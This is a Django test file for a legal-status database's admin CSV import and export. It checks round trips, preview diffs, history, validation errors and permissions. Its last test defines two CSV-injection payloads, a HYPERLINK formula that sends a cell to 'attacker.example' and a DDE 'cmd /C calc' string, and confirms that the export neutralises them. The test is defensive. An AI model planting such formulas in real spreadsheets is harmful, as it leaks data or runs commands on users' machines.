"""Curators import and export statuses and sources as CSV: preview, checks, history, round trips."""

import csv
import io
from datetime import date

import pytest
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile

from legality.admin.resources import LegalStatusResource, SourceResource
from legality.models import LegalStatus, Source
from tests.factories import (
    CountyFactory,
    LegalStatusFactory,
    SourceFactory,
    StateFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

STATUSES = "/admin/legality/legalstatus/"
SOURCES = "/admin/legality/source/"
COLUMNS = list(LegalStatusResource().get_export_order())


def export(client, url: str = STATUSES) -> str:
    resource = LegalStatusResource if url == STATUSES else SourceResource
    fields = {f"{resource.__name__.lower()}_{name}": "on" for name in resource().get_export_order()}
    response = client.post(f"{url}export/", {"format": "0", "resource": "0", **fields})
    assert response.status_code == 200, response.content
    return response.content.decode()


def preview(client, text: str, url: str = STATUSES, name: str = "statuses.csv"):
    upload = SimpleUploadedFile(name, text.encode(), content_type="text/csv")
    response = client.post(f"{url}import/", {"format": "0", "resource": "0", "import_file": upload})
    assert response.status_code == 200
    return response


def confirm(client, previewed, url: str = STATUSES):
    data = previewed.context["confirm_form"].initial | {"confirm": "Confirm import"}
    return client.post(f"{url}process_import/", data, follow=True)


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def write(rows: list[dict[str, str]]) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def totals(response) -> dict[str, int]:
    return dict(response.context["result"].totals)


def new_row(jurisdiction, linked, **values) -> dict[str, str]:
    row = dict.fromkeys(COLUMNS, "")
    return (
        row
        | {
            "ocd_id": jurisdiction.ocd_id,
            "substance": "kratom",
            "status": "banned",
            "summary": "Banned since 2016.",
            "effective_from": "2016-05-10",
            "effective_from_precision": "day",
            "is_published": "true",
            "unverified": "false",
            "sources": ", ".join(str(source.pk) for source in linked),
        }
        | values
    )


@pytest.fixture
def entries(kratom, seven_oh):
    """Entries with every kind of value an export must carry back unchanged."""
    state = StateFactory(name="Alabama")
    county = CountyFactory(parent=state, name="Lee County")
    act, notice = SourceFactory(), SourceFactory(url="", citation="Ala. Code § 20-2-23")
    return [
        LegalStatusFactory(
            jurisdiction=state,
            substance=kratom,
            status="legal",
            summary="No law.\r\nNot yet.",  # a textarea's line ending, as the admin stores it
            effective_from=None,
            effective_until=date(2016, 5, 10),
            sources=[act],
        ),
        LegalStatusFactory(
            jurisdiction=state,
            substance=kratom,
            status="banned",
            summary="Schedule I.",
            details="Possession is a felony.",
            effective_from=date(2016, 5, 10),
            sources=[act, notice],
            internal_notes="Check the 2025 session.",
        ),
        LegalStatusFactory(
            jurisdiction=county,
            substance=seven_oh,
            status="regulated",
            minimum_age=21,
            applies_to="unincorporated",
            summary="21+.",
            effective_from=date(2025, 3, 1),
            effective_from_precision="month",
            unverified=True,
            sources=[notice],
            sale_rule="age_limited",
            possession_rule="allowed",
            minimum_age_applies_to=["sale", "possession"],
            product_limits=[
                {"kind": "labeling", "text": "a warning label"},
                {"kind": "testing", "text": "a certificate of analysis"},
            ],
            penalty="A fine of up to $500.",
        ),
        LegalStatusFactory(
            jurisdiction=county,
            substance=kratom,
            status="restricted",
            summary="Draft.",
            is_published=False,
            last_verified_at=None,
            sources=[],
        ),
    ]


def test_export_writes_one_row_per_entry_with_the_last_day_in_force(curator_client, entries):
    rows = {int(row["id"]): row for row in read(export(curator_client))}

    assert list(read(export(curator_client))[0]) == COLUMNS
    ended, banned, regulated, draft = (rows[entry.pk] for entry in entries)
    assert ended["effective_until"] == "2016-05-09"  # stored as 2016-05-10, the first day after
    assert (ended["effective_from"], ended["effective_from_precision"]) == ("", "")
    assert banned["ocd_id"] == entries[1].jurisdiction.ocd_id
    assert banned["sources"] == ", ".join(
        str(pk) for pk in sorted(source.pk for source in entries[1].sources.all())
    )
    assert banned["internal_notes"] == "Check the 2025 session."
    assert regulated | {"id": "", "ocd_id": "", "sources": ""} == {
        "id": "",
        "ocd_id": "",
        "substance": "7-oh",
        "status": "regulated",
        "minimum_age": "21",
        "applies_to": "unincorporated",
        "summary": "21+.",
        "details": "",
        "sale_rule": "age_limited",
        "possession_rule": "allowed",
        "use_rule": "unknown",
        "manufacture_rule": "unknown",
        "distribution_rule": "unknown",
        "import_rule": "unknown",
        "minimum_age_applies_to": "sale, possession",
        "product_limits": "labeling: a warning label\ntesting: a certificate of analysis",
        "penalty": "A fine of up to $500.",
        "effective_from": "2025-03-01",
        "effective_from_precision": "month",
        "effective_until": "",
        "is_published": "true",
        "unverified": "true",
        "last_verified_at": "2026-01-01",
        "sources": "",
        "internal_notes": "",
        "version": "1",
    }
    assert (draft["is_published"], draft["sources"], draft["last_verified_at"]) == ("false", "", "")


def test_export_lists_a_places_periods_in_order_an_unknown_start_first(curator_client, entries):
    ended, banned, regulated, draft = entries

    rows = read(export(curator_client))

    # By OCD id, substance and start, on every database (PostgreSQL sorts NULL last, SQLite
    # first): a period with an unknown start is the earliest of its place and substance.
    assert [int(row["id"]) for row in rows] == [ended.pk, banned.pk, draft.pk, regulated.pk]


def test_export_then_import_changes_nothing(curator_client, entries):
    records = LegalStatus.history.count()

    previewed = preview(curator_client, export(curator_client))

    assert totals(previewed) | {"skip": 0} == dict.fromkeys(totals(previewed), 0)
    assert totals(previewed)["skip"] == len(entries)
    confirm(curator_client, previewed)
    assert LegalStatus.history.count() == records


def test_the_preview_shows_the_changes_and_writes_nothing(curator_client, entries):
    rows = read(export(curator_client))
    rows[1]["status"] = "restricted"
    rows.append(new_row(entries[0].jurisdiction, [], substance="7-oh", is_published="false"))
    records = LegalStatus.history.count()

    previewed = preview(curator_client, write(rows))

    assert (totals(previewed)["update"], totals(previewed)["new"]) == (1, 1)
    page = previewed.content.decode()
    assert "Confirm import" in page
    assert "<ins" in page and "restricted" in page  # the diff of the changed status
    entries[1].refresh_from_db()
    assert entries[1].status == "banned"
    assert LegalStatus.objects.count() == len(entries)
    assert LegalStatus.history.count() == records


def test_a_confirmed_import_is_in_history_under_the_curators_name(curator_client, curator, entries):
    act = entries[0].sources.get()
    rows = read(export(curator_client))
    rows[1]["status"] = "restricted"
    rows.append(new_row(entries[0].jurisdiction, [act], substance="7-oh"))

    response = confirm(curator_client, preview(curator_client, write(rows)))

    assert "Import finished: 1 new, 1 updated, 0 deleted and 3 skipped" in response.content.decode()
    changed = LegalStatus.objects.get(pk=entries[1].pk)
    added = LegalStatus.objects.get(jurisdiction=entries[0].jurisdiction, substance__slug="7-oh")
    assert changed.status == "restricted"
    assert list(added.sources.all()) == [act]
    for entry in (changed, added):
        record = entry.history.first()
        assert record.history_user == curator
        assert record.history_change_reason == "Imported from statuses.csv"
        assert [link.source_id for link in record.sources.all()] == [
            source.pk for source in entry.sources.all()
        ]
    assert entries[0].history.first().history_user is None  # unchanged rows are not re-saved


def test_an_import_codes_the_activities_as_the_form_does(curator_client, entries):
    rows = read(export(curator_client))
    rows[1] |= {
        "sale_rule": "prohibited",
        "possession_rule": "prohibited",
        "import_rule": "conditions",
        "product_limits": "other: FDA import alert\n\nsynthetic_alkaloids_banned: all",
        "penalty": "A felony.",
    }

    previewed = preview(curator_client, write(rows))
    confirm(curator_client, previewed)

    assert totals(previewed)["update"] == 1
    banned = LegalStatus.objects.get(pk=entries[1].pk)
    assert banned.activity_rules == {
        "sale": "prohibited",
        "possession": "prohibited",
        "use": "unknown",
        "manufacture": "unknown",
        "distribution": "unknown",
        "import": "conditions",
    }
    assert banned.product_limits == [
        {"kind": "other", "text": "FDA import alert"},
        {"kind": "synthetic_alkaloids_banned", "text": "all"},
    ]
    assert banned.penalty == "A felony."
    assert banned.history.first().history_user is not None


def test_a_row_without_an_id_updates_the_entry_with_the_same_start(curator_client, entries):
    rows = read(export(curator_client))
    rows[1] |= {"id": "", "minimum_age": "18"}

    previewed = preview(curator_client, write(rows))
    confirm(curator_client, previewed)

    assert totals(previewed)["update"] == 1
    assert LegalStatus.objects.get(pk=entries[1].pk).minimum_age == 18
    assert LegalStatus.objects.count() == len(entries)


def test_columns_left_out_keep_the_stored_values(curator_client, entries):
    text = f"id,status\n{entries[1].pk},restricted\n{entries[0].pk},legal\n"

    previewed = preview(curator_client, text)
    confirm(curator_client, previewed)

    assert (totals(previewed)["update"], totals(previewed)["skip"]) == (1, 1)
    entries[1].refresh_from_db()
    assert (entries[1].status, entries[1].summary) == ("restricted", "Schedule I.")
    assert entries[1].sources.count() == 2


def test_last_verified_at_is_not_imported(curator_client, entries):
    rows = read(export(curator_client))
    rows[1]["last_verified_at"] = "2030-01-01"

    previewed = preview(curator_client, write(rows))

    assert totals(previewed)["skip"] == len(entries)


# Each kind of bad row: the preview lists it, offers no confirmation and writes nothing.
BAD_ROWS = [
    ({"ocd_id": "ocd-division/country:us/state:zz"}, "ocd_id", "unknown jurisdiction"),
    ({"ocd_id": ""}, "ocd_id", "empty: every entry needs its jurisdiction's OCD id"),
    ({"substance": "kava"}, "substance", "unknown substance 'kava' (known: 7-oh, kratom)"),
    (
        {"status": "illegal"},
        "status",
        "bad status 'illegal' (legal, regulated, restricted, banned)",
    ),
    (
        {"effective_from": "05/10/2016"},
        "effective_from",
        "bad date in effective_from: '05/10/2016' (expected YYYY-MM-DD)",
    ),
    (
        {"effective_until": "2016-02-30"},
        "effective_until",
        "bad date in effective_until: '2016-02-30' (expected YYYY-MM-DD)",
    ),
    ({"effective_until": "2016-05-01"}, "effective_until", "effective_until is before the start"),
    (
        {"effective_from_precision": "month"},
        "effective_from",
        "a month start is written as the first day of its month",
    ),
    ({"minimum_age": "eighteen"}, "minimum_age", "bad minimum_age 'eighteen'"),
    ({"applies_to": "whole"}, "applies_to", "applies_to is only for county entries"),
    ({"summary": " "}, "summary", "summary must be some text"),
    ({"is_published": "maybe"}, "is_published", "write true or false, not 'maybe'"),
    ({"sources": "999999"}, "sources", "no source has the id '999999'"),
    ({"sources": ""}, "sources", "A published entry needs at least one source"),
    ({"id": "999999"}, "id", "no entry has the id 999999: leave id empty to add one"),
    ({"sale_rule": "illegal"}, "sale_rule", "'illegal' is not a rule: write one of allowed,"),
    (
        {"minimum_age_applies_to": "sale, buying"},
        "minimum_age_applies_to",
        "unknown activity 'buying': write some of sale, possession,",
    ),
    ({"product_limits": "a warning label"}, "product_limits", "Line 1: write “kind: text”"),
]


@pytest.mark.parametrize(("values", "column", "message"), BAD_ROWS)
def test_a_bad_row_is_shown_and_nothing_is_written(curator_client, kratom, values, column, message):
    state, other = StateFactory(), StateFactory()
    source = SourceFactory()
    good = new_row(other, [source])
    records = LegalStatus.history.count()

    previewed = preview(curator_client, write([good, new_row(state, [source], **values)]))

    invalid = previewed.context["result"].invalid_rows
    assert [row.number for row in invalid] == [2]
    assert any(message in error for error in invalid[0].error_dict[column])
    assert "confirm_form" not in previewed.context
    page = previewed.content.decode()
    assert "Nothing was imported: some rows fail the checks" in page
    assert f"Row 2, {column}: " in page
    assert LegalStatus.objects.count() == 0
    assert LegalStatus.history.count() == records


def test_a_period_overlapping_a_stored_entry_is_rejected(curator_client, kratom):
    state, source = StateFactory(), SourceFactory()
    stored = LegalStatusFactory(
        jurisdiction=state, substance=kratom, effective_from=date(2010, 1, 1)
    )

    previewed = preview(curator_client, write([new_row(state, [source])]))

    (row,) = previewed.context["result"].invalid_rows
    assert row.non_field_specific_errors == [
        f"{kratom} in {state} already has an entry from 2010-01-01 to today; periods may not "
        "overlap."
    ]
    assert list(LegalStatus.objects.all()) == [stored]


def test_activities_that_contradict_the_status_are_rejected_as_in_the_form(curator_client, kratom):
    state, source = StateFactory(), SourceFactory()

    previewed = preview(
        curator_client, write([new_row(state, [source], possession_rule="allowed")])
    )

    (row,) = previewed.context["result"].invalid_rows
    assert row.non_field_specific_errors == [
        "The activities contradict the status: a banned entry cannot code possession 'allowed': "
        "a ban prohibits sale and possession."
    ]
    assert LegalStatus.objects.count() == 0


def test_periods_overlapping_within_the_file_are_rejected(curator_client, kratom):
    state, source = StateFactory(), SourceFactory()
    rows = [new_row(state, [source]), new_row(state, [source], effective_from="2020-01-01")]

    previewed = preview(curator_client, write(rows))

    assert [row.number for row in previewed.context["result"].invalid_rows] == [2]
    assert not LegalStatus.objects.exists()


def test_the_same_entry_twice_in_a_file_is_rejected(curator_client, entries):
    rows = read(export(curator_client))
    rows.append(rows[1] | {"status": "legal"})

    previewed = preview(curator_client, write(rows))

    (row,) = previewed.context["result"].invalid_rows
    assert row.non_field_specific_errors == [
        f"row 2 already updates this entry (id {entries[1].pk})"
    ]


def test_a_misspelt_column_is_reported_and_no_row_is_read(curator_client, entries):
    text = export(curator_client).replace("minimum_age", "minimum_agee", 1)

    previewed = preview(curator_client, text)

    result = previewed.context["result"]
    assert [str(error.error) for error in result.base_errors] == [
        f"Unknown column 'minimum_agee': the columns are {', '.join(COLUMNS)}. "
        "Nothing was imported."
    ]
    assert not result.rows
    assert "Traceback" not in previewed.content.decode()


def test_rows_that_fail_at_the_confirmation_write_nothing(curator_client, kratom):
    state, other, source = StateFactory(), StateFactory(), SourceFactory()
    previewed = preview(curator_client, write([new_row(other, [source]), new_row(state, [source])]))
    # Another curator adds an overlapping entry between the preview and the confirmation.
    LegalStatusFactory(jurisdiction=state, substance=kratom, effective_from=date(2000, 1, 1))

    response = confirm(curator_client, previewed)

    assert "Nothing was imported: the file no longer passes the checks" in response.content.decode()
    assert not LegalStatus.objects.filter(jurisdiction=other).exists()


def test_sources_export_then_import_changes_nothing(curator_client):
    SourceFactory(published_on=date(2016, 5, 1), published_precision="month")
    SourceFactory(url="", citation="Ala. Code § 20-2-23", published_on=None, published_precision="")
    SourceFactory(title="Line one\r\nline two")

    text = export(curator_client, SOURCES)
    previewed = preview(curator_client, text, SOURCES, "sources.csv")

    assert sorted(row["published"] for row in read(text)) == ["", "2016-05", "2024-01-01"]
    assert totals(previewed)["skip"] == 3
    assert totals(previewed)["new"] + totals(previewed)["update"] == 0


def test_a_new_source_is_imported_under_the_curators_name(curator_client, curator):
    text = (
        "id,title,kind,url,citation,publisher,published,archive_url\n"
        ",Kratom Act,statute,https://law.example.org/kratom,Ala. Code § 20-2-23,Legislature,"
        "2016-05,\n"
    )

    response = confirm(
        curator_client, preview(curator_client, text, SOURCES, "sources.csv"), SOURCES
    )

    assert "Import finished: 1 new" in response.content.decode()
    source = Source.objects.get()
    assert (source.published_on, source.published_precision) == (date(2016, 5, 1), "month")
    assert source.history.get().history_user == curator


@pytest.mark.parametrize(
    ("cell", "column", "message"),
    [
        ("published=May 2016", "published", "bad published date 'May 2016'"),
        ("kind=law", "kind", "Value 'law' is not a valid choice."),
        ("url=not a url", "url", "Enter a valid URL."),
    ],
)
def test_a_bad_source_row_is_rejected(curator_client, cell, column, message):
    row = {
        "id": "",
        "title": "Kratom Act",
        "kind": "statute",
        "url": "https://law.example.org/kratom",
        "citation": "",
        "publisher": "",
        "published": "2016",
        "archive_url": "",
    }
    name, value = cell.split("=")

    previewed = preview(curator_client, write([row | {name: value}]), SOURCES, "sources.csv")

    (invalid,) = previewed.context["result"].invalid_rows
    assert any(message in error for error in invalid.error_dict[column])
    assert not Source.objects.exists()


def test_a_source_needs_a_url_or_a_citation(curator_client):
    text = "title,kind,url,citation,published\nKratom Act,statute,,,2016\n"

    previewed = preview(curator_client, text, SOURCES, "sources.csv")

    (invalid,) = previewed.context["result"].invalid_rows
    assert invalid.non_field_specific_errors == ["A source needs a URL or a citation."]


def test_staff_who_may_only_view_cannot_import(client, entries):
    user = UserFactory(is_staff=True)
    user.user_permissions.add(Permission.objects.get(codename="view_legalstatus"))
    user.save()
    client.force_login(user)

    assert client.get(f"{STATUSES}import/").status_code == 403
    assert read(export(client))  # they may still export what they may view
    assert "/admin/legality/legalstatus/import/" not in client.get(STATUSES).content.decode()


def test_curators_see_the_import_and_export_buttons(curator_client):
    page = curator_client.get(STATUSES).content.decode()

    assert "href='/admin/legality/legalstatus/import/' class=\"import_link\"" in page
    assert 'href="/admin/legality/legalstatus/export/?" class="export_link"' in page


@pytest.mark.parametrize("rows", [1, 50])
def test_export_takes_the_same_queries_for_any_number_of_entries(
    curator_client, kratom, django_assert_num_queries, rows
):
    LegalStatusFactory.create_batch(rows, substance=kratom)
    resource = LegalStatusResource.__name__.lower()
    fields = {f"{resource}_{name}": "on" for name in COLUMNS}

    # 1 the session, 2 the user, 3 the user's own permissions, 4 their groups' permissions,
    # 5-6 the change list's filters (substances, countries: the export honours the filters),
    # 7 the count of entries (the export reads them in chunks of 1,000), 8 the entries with their
    # jurisdiction and substance, 9 their sources' ids.
    with django_assert_num_queries(9):
        response = curator_client.post(
            f"{STATUSES}export/", {"format": "0", "resource": "0", **fields}
        )

    assert len(read(response.content.decode())) == rows


FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_the_admin_export_neutralises_formulas_and_imports_back_unchanged(curator_client, kratom):
    entry = LegalStatusFactory(
        substance=kratom, summary=FORMULA, details=AT_FORMULA, sources=[SourceFactory()]
    )
    text = export(curator_client)
    rows = read(text)
    assert (rows[0]["summary"], rows[0]["details"]) == ("'" + FORMULA, "'" + AT_FORMULA)

    done = confirm(curator_client, preview(curator_client, write(rows)))

    assert done.status_code == 200
    entry.refresh_from_db()
    assert (entry.summary, entry.details, entry.version) == (FORMULA, AT_FORMULA, 1)
